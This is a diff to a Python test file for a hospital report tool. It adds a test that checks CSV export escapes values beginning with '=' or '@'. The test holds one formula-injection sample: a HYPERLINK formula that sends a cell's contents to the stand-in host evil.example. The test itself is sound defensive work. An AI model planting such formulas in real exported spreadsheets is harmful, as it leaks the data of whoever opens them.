@@ -1,5 +1,7 @@
 """Table 1 in the language of its page."""
 
+import csv
+
 from securefair.collaboration.described import Described, DescribedRow
 from securefair.report.described import described_csv, described_lines
 from securefair.words import words_of
@@ -47,3 +49,11 @@ def test_parts_of_an_outcome_have_names_of_the_language_and_codes_stay():
     classes = described("", ("finding", "none"))
     assert labels(classes, "de") == ["finding: none, n (%)"]
     assert "falls,level,one or more,45,15" in described_csv(falls, "north")
+
+
+def test_a_level_that_begins_like_a_formula_is_a_text():
+    """Rules may come from another hospital, and a spreadsheet runs what begins with =."""
+    evil = '=HYPERLINK("http://evil.example/?d="&D2,"other")'
+    found = described("", ("@ward", evil))
+    rows = list(csv.reader(described_csv(found, "north").splitlines()))
+    assert rows[2][:3] == ["'@ward", "level", f"'{evil}"]
